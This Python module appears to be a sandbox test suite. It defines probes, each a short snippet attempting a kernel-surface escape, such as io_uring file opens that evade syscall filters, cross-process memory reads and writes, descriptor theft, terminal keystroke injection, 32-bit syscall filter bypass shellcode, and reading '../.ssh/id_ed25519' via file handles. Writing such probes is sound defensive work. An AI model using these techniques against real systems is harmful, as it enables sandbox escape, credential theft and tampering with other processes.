"""Attacks on the surfaces of the kernel: its own sockets, rings, programs, keys and clocks."""

from __future__ import annotations

from attack_probe import Probe

# A terminal of the probe's own, which is the one that it is controlled by.
_TERMINAL = """
master, slave = os.openpty()
if os.fork():
    os.wait()
    os._exit(0)
os.setsid()
fcntl.ioctl(slave, 0x540E, 0)
"""
# A process beside the probe, which never does anything.
_CHILD = """
child = os.fork()
if not child:
    time.sleep(60)
    os._exit(0)
"""

PROBES = (
    Probe(
        "vsock-listens",
        "vsock",
        "A virtual machine's socket is in no network namespace: the hypervisor can be reached.",
        """
s = socket.socket(40, socket.SOCK_STREAM)
s.bind((0xFFFFFFFF, 0xFFFFFFFF))
s.listen()
got()
""",
    ),
    Probe(
        "vsock-family-with-high-bits",
        "vsock",
        "A filter that compares 64 bits lets a family through that the kernel cuts to 32.",
        "syscall('socket', 40 | 1 << 32, 1, 0)\ngot()\n",
    ),
    Probe(
        "netlink-lists-links",
        "raw",
        "The kernel's own protocol tells, and for root changes, interfaces and routes.",
        """
s = socket.socket(16, socket.SOCK_RAW, 0)
s.send(struct.pack("=LHHLL4x16x", 36, 18, 0x301, 1, 0)[:36])
if struct.unpack("=LH", s.recv(65536)[:6])[1] == 16:
    got()
""",
    ),
    Probe(
        "netlink-hears-devices",
        "raw",
        "The kernel tells every listener which devices the host is given.",
        "socket.socket(16, socket.SOCK_DGRAM, 15).bind((0, 1))\ngot()\n",
    ),
    Probe(
        "netlink-lists-unix-sockets",
        "unix-sockets",
        "The names of all Unix sockets show which services there are to attack.",
        """
s = socket.socket(16, socket.SOCK_RAW, 4)
s.send(struct.pack("=LHHLLBBHLLLLL", 40, 20, 0x301, 1, 0, 1, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0))
if b"docker.sock" in s.recv(1 << 20) or b"X11-unix" in s.recv(1 << 20):
    got()
""",
    ),
    Probe(
        "netlink-tells-of-tasks",
        "proc",
        "Accounting over generic netlink tells what any process of the host does.",
        """
s = socket.socket(16, socket.SOCK_RAW, 16)
body = struct.pack("=BBHHH", 3, 1, 0, 14, 2) + b"TASKSTATS\\0\\0\\0"
s.send(struct.pack("=LHHLL", 16 + len(body), 16, 1, 1, 0) + body)
if b"TASKSTATS" in s.recv(65536)[20:]:
    got()
""",
    ),
    Probe(
        "xdp-socket",
        "raw",
        "A socket that takes whole frames from a network card passes by every other rule.",
        "socket.socket(44, socket.SOCK_RAW, 0)\ngot()\n",
        root=True,
    ),
    Probe(
        "io-uring-is-set-up",
        "io_uring",
        "A ring makes system calls that no filter sees.",
        "syscall('io_uring_setup', 4, bytes(120))\ngot()\n",
    ),
    Probe(
        "io-uring-opens-a-file",
        "io_uring",
        "A ring opens files without the call that a filter would look at.",
        """
parameters = ctypes.create_string_buffer(120)
ring = syscall("io_uring_setup", 4, parameters)
words = struct.unpack_from("=20L", parameters, 40)
queue = mmap.mmap(ring, 4096, offset=0)
entries = mmap.mmap(ring, 4096, offset=0x10000000)
path = ctypes.create_string_buffer(W["secrets"][0].encode())
entries[:64] = struct.pack("=BBHiQQLLQ24x", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 0)
struct.pack_into("=L", queue, words[6], 0)
struct.pack_into("=L", queue, words[1], 1)
syscall("io_uring_enter", ring, 1, 1, 1, 0, 0)
result = struct.unpack_from("=i", queue, words[15] + 8)[0]
print(os.read(result, 4096))
""",
    ),
    Probe(
        "userfaultfd-is-made",
        "userfaultfd",
        "Holding a page fault open for as long as one likes wins races in the kernel.",
        "syscall('userfaultfd', 1)\ngot()\n",
    ),
    Probe(
        "userfaultfd-of-the-kernel",
        "userfaultfd",
        "Faults of the kernel itself can be held too.",
        "syscall('userfaultfd', 0)\ngot()\n",
        root=True,
    ),
    Probe(
        "bpf-map",
        "bpf",
        "Maps and programs in the kernel are its richest surface.",
        "syscall('bpf', 0, struct.pack('=4L', 2, 4, 8, 1) + bytes(112), 128)\ngot()\n",
        root=True,
    ),
    Probe(
        "bpf-program",
        "bpf",
        "A program in the kernel reads what it likes.",
        """
code = ctypes.create_string_buffer(bytes.fromhex("b700000000000000 9500000000000000"))
text = ctypes.create_string_buffer(b"GPL")
head = struct.pack("=LLQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(text))
syscall("bpf", 5, head + bytes(104), 128)
got()
""",
        root=True,
    ),
    Probe(
        "bpf-filter-on-a-socket",
        "bpf",
        "Any user may hand the kernel a program for a socket, and its compiler compiles it.",
        """
code = ctypes.create_string_buffer(struct.pack("=HBBL", 6, 0, 0, 0))
program = struct.pack("@HP", 1, ctypes.addressof(code))
socket.socketpair()[0].setsockopt(1, 26, program)
got()
""",
    ),
    Probe(
        "perf-counts-this-process",
        "perf",
        "Performance counters are a side channel and a big surface.",
        """
head = struct.pack("=LLQQQQQ", 1, 112, 1, 0, 0, 0, 0b1100000)
syscall("perf_event_open", head + bytes(64), 0, -1, -1, 0)
got()
""",
    ),
    Probe(
        "perf-watches-the-machine",
        "perf",
        "Samples of a whole processor hold what every process does.",
        """
head = struct.pack("=LLQQQQQ", 1, 112, 0, 0, 0, 0, 0)
syscall("perf_event_open", head + bytes(64), -1, 0, -1, 0)
got()
""",
        root=True,
    ),
    Probe(
        "key-stays-with-the-user",
        "keyrings",
        "A key in the user's ring outlives the guest, and carries a word to the next one.",
        """
key = syscall("add_key", b"user", b"goobits-left", b"word", 4, -4)
syscall("keyctl", 5, key, 0x3F3F3F3F)
got()
""",
    ),
    Probe(
        "keyring-of-the-session",
        "keyrings",
        "The session's ring holds the host's keys of file systems and of Kerberos.",
        "syscall('keyctl', 0, -3, 1)\ngot()\n",
    ),
    Probe(
        "keyring-is-joined",
        "keyrings",
        "Named session rings are shared by all who know the name.",
        "syscall('keyctl', 1, b'goobits-ring')\ngot()\n",
    ),
    Probe(
        "keyring-persistent",
        "keyrings",
        "A user's persistent ring outlives all its processes.",
        "syscall('keyctl', 22, -1, -2)\ngot()\n",
    ),
    Probe(
        "compares-descriptors",
        "proc",
        "kcmp orders the addresses of kernel objects: a step past their randomisation.",
        _CHILD
        + """
try:
    if syscall("kcmp", os.getpid(), child, 1, 0, 0) >= 0:
        got()
finally:
    os.kill(child, 9)
""",
    ),
    Probe(
        "reads-another-process",
        "ptrace",
        "Reading memory across processes finds whatever another one holds.",
        """
held = ctypes.create_string_buffer(200)
near = struct.pack("@PN", ctypes.addressof(held), 130)
far = struct.pack("@PN", W["victim_address"], 130)
for pid in (W["victim"], 1, os.getppid()):
    try:
        syscall("process_vm_readv", pid, near, 1, far, 1, 0)
        print(held.raw)
    except OSError as error:
        print(error)
""",
    ),
    Probe(
        "writes-another-process",
        "ptrace",
        "Writing memory across processes makes another one do what it should not.",
        """
held = ctypes.create_string_buffer(b"hurt")
near = struct.pack("@PN", ctypes.addressof(held), 4)
far = struct.pack("@PN", W["victim_address"], 4)
syscall("process_vm_writev", W["victim"], near, 1, far, 1, 0)
""",
    ),
    Probe(
        "reads-a-child-of-its-own",
        "ptrace",
        "The call that reads memory is there at all, for whoever finds a process to read.",
        _CHILD
        + """
word = ctypes.create_string_buffer(b"word")
held = ctypes.create_string_buffer(8)
near = struct.pack("@PN", ctypes.addressof(held), 4)
far = struct.pack("@PN", ctypes.addressof(word), 4)
try:
    syscall("process_vm_readv", child, near, 1, far, 1, 0)
    if held.value == b"word":
        got()
finally:
    os.kill(child, 9)
""",
    ),
    Probe(
        "takes-a-descriptor",
        "ptrace",
        "A descriptor taken from another process reads a file that could never be opened.",
        """
pidfd = syscall("pidfd_open", W["victim"], 0)
taken = syscall("pidfd_getfd", pidfd, W["victim_fd"], 0)
print(os.pread(taken, 4096, 0))
""",
    ),
    Probe(
        "takes-a-descriptor-of-init",
        "ptrace",
        "The sandbox's own init may hold descriptors of the host.",
        """
for pid in (1, os.getppid()):
    try:
        pidfd = syscall("pidfd_open", pid, 0)
        for number in range(3, 20):
            try:
                syscall("pidfd_getfd", pidfd, number, 0)
                got()
            except OSError as error:
                if error.errno != errno.EBADF:
                    raise
    except OSError as error:
        print(error)
""",
        root=True,
    ),
    Probe(
        "advises-another-process",
        "ptrace",
        "Memory of another process can be pushed out of RAM from afar.",
        """
page = struct.pack("@PN", W["victim_address"] & ~4095, 4096)
pidfd = syscall("pidfd_open", W["victim"], 0)
syscall("process_madvise", pidfd, page, 1, 20, 0)
got()
""",
        root=True,
    ),
    Probe(
        "renices-all-of-the-user",
        "signals",
        "A guest that runs as the user slows all that the user runs.",
        "os.setpriority(os.PRIO_USER, os.getuid(), 19)\nos.setpriority(os.PRIO_USER, W['uid'], 19)\n",
    ),
    Probe(
        "io-priority-of-all-of-the-user",
        "signals",
        "A guest that runs as the user takes the disk away from all that the user runs.",
        """
for uid in (os.getuid(), W["uid"]):
    syscall("ioprio_set", 3, uid, 3 << 13)
""",
    ),
    Probe(
        "local-descriptor-table",
        "proc",
        "Segments of one's own are rarely used and often broken ground of the kernel.",
        """
if X86:
    syscall("modify_ldt", 1, struct.pack("=4L", 0, 0, 0xFFFFF, 0x51), 16)
    got()
else:
    syscall("personality", 0x0040000)
    got()
""",
    ),
    Probe(
        "memory-without-randomness",
        "proc",
        "Programs started at known addresses make a bug in a setuid one easy to use.",
        "syscall('personality', 0x0040000)\ngot()\n",
    ),
    Probe(
        "memory-hidden-from-the-kernel",
        "memory",
        "Secret memory cannot be reclaimed, and is counted by no limit on data.",
        """
secret = syscall("memfd_secret", 0)
os.ftruncate(secret, 4096)
mmap.mmap(secret, 4096)[:4] = b"word"
got()
""",
    ),
    Probe(
        "calls-of-32-bits",
        "proc",
        "A filter for 64 bits says nothing of the calls that a 32-bit interrupt makes.",
        """
if not X86:
    syscall("keyctl", 0, -4, 1)
    got()
    sys.exit()
code = mmap.mmap(-1, 4096, prot=7)
# push rbx; mov eax, 288 (keyctl); xor ebx, ebx; mov ecx, -4; mov edx, 1; int 0x80; pop rbx; ret
code.write(bytes.fromhex("53 b820010000 31db b9fcffffff ba01000000 cd80 5b c3"))
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
if call() > 0:
    got()
""",
    ),
    Probe(
        "ring-of-32-bits",
        "io_uring",
        "The 32-bit interrupt reaches the same rings.",
        """
if not X86:
    syscall("io_uring_setup", 4, bytes(120))
    got()
    sys.exit()
low = libc.mmap
low.restype = ctypes.c_void_p
at = low(ctypes.c_void_p(0x10000000), 8192, 7, 0x32, -1, 0)
# push rbx; mov eax, 425 (io_uring_setup); mov ebx, 4; mov ecx, 0x10001000; int 0x80
code = bytes.fromhex("53 b8a9010000 bb04000000 b900100010 cd80 5b c3")
ctypes.memmove(at, code, len(code))
if ctypes.CFUNCTYPE(ctypes.c_int)(at)() >= 0:
    got()
""",
    ),
    Probe(
        "keystrokes-into-a-terminal",
        "tiocsti",
        "Pushed keystrokes are typed into whoever reads the terminal next: the user's shell.",
        _TERMINAL + "fcntl.ioctl(slave, 0x5412, b'x')\ngot()\n",
    ),
    Probe(
        "keystrokes-with-high-bits",
        "tiocsti",
        "A filter that compares 64 bits lets the number through that the kernel cuts.",
        _TERMINAL + "syscall('ioctl', slave, 0x5412 | 1 << 32, b'x')\ngot()\n",
    ),
    Probe(
        "line-discipline",
        "tiocsti",
        "Other disciplines of a terminal are old drivers, loaded on demand and often broken.",
        _TERMINAL + "fcntl.ioctl(slave, 0x5423, struct.pack('=i', 27))\ngot()\n",
    ),
    Probe(
        "console-is-asked",
        "tiocsti",
        "Calls of the console paste what was selected, and switch screens.",
        """
os.mknod("/tmp/console", stat.S_IFCHR | 0o600, os.makedev(4, 1))
console = os.open("/tmp/console", os.O_RDWR | os.O_NOCTTY)
fcntl.ioctl(console, 0x541C, b"\\6")
got()
""",
        root=True,
    ),
    Probe(
        "file-by-handle",
        "files",
        "A handle opens a file of the file system below, past every mount that covers it.",
        """
handle = ctypes.create_string_buffer(struct.pack("=Li", 128, 0) + bytes(128))
kept = ctypes.c_int()
syscall("name_to_handle_at", -100, b".", handle, ctypes.byref(kept), 0)
opened = syscall("open_by_handle_at", os.open(".", os.O_RDONLY), handle, 0)
got()
print(os.read(os.open("../.ssh/id_ed25519", 0, dir_fd=opened), 4096))
""",
        root=True,
    ),
    Probe(
        "fanotify-of-the-user",
        "files",
        "Notification of files tells what others open.",
        "syscall('fanotify_init', 0x200, 0)\ngot()\n",
    ),
    Probe(
        "fanotify-of-a-file-system",
        "files",
        "One mark on a file system tells of every file in it.",
        """
group = syscall("fanotify_init", 0, 0)
syscall("fanotify_mark", group, 0x101, 0x20, -100, b"/tmp")
got()
""",
        root=True,
    ),
    Probe(
        "kernel-log-is-read",
        "identity",
        "The kernel's log holds addresses, devices and what other programs did.",
        """
held = ctypes.create_string_buffer(1 << 16)
if syscall("syslog", 3, held, 1 << 16) > 0:
    got()
""",
        root=True,
    ),
    Probe(
        "kernel-log-is-written",
        "identity",
        "Lines forged in the kernel's log deceive whoever watches it.",
        "os.open('/dev/kmsg', os.O_WRONLY)\ngot()\n",
    ),
    Probe(
        "kernel-addresses-are-read",
        "identity",
        "Addresses of the kernel are the first step of every attack on its memory.",
        """
with open("/proc/kallsyms") as file:
    if int(file.readline().split()[0], 16):
        got()
""",
        root=True,
    ),
    Probe(
        "quotas-are-synced",
        "disk",
        "Quota calls reach the host's file systems.",
        "syscall('quotactl', 0x800001 << 8, 0, 0, 0)\ngot()\n",
    ),
    Probe(
        "accounting-writes-a-file",
        "disk",
        "The kernel writes a line to a file of the guest's choice for every process that ends.",
        """
open("/tmp/accounts", "w").close()
syscall("acct", b"/tmp/accounts")
got()
syscall("acct", 0)
""",
        control="confined",
        root=True,
    ),
    Probe(
        "clock-is-set",
        "clock",
        "A clock that is wrong makes certificates valid and logs useless.",
        "time.clock_settime_ns(0, time.clock_gettime_ns(0))\ngot()\n",
        root=True,
    ),
    Probe(
        "clock-is-set-the-old-way",
        "clock",
        "The older call sets the same clock.",
        """
now = time.time_ns()
syscall("settimeofday", struct.pack("@ll", now // 10**9, now % 10**9 // 1000), 0)
got()
""",
        root=True,
    ),
    Probe(
        "clock-is-adjusted",
        "clock",
        "A clock that runs slow or fast is wrong before anybody sees it.",
        """
held = ctypes.create_string_buffer(208)
syscall("adjtimex", held)
struct.pack_into("=L", held, 0, 0x0002)
syscall("clock_adjtime", 0, held)
got()
""",
        root=True,
    ),
)
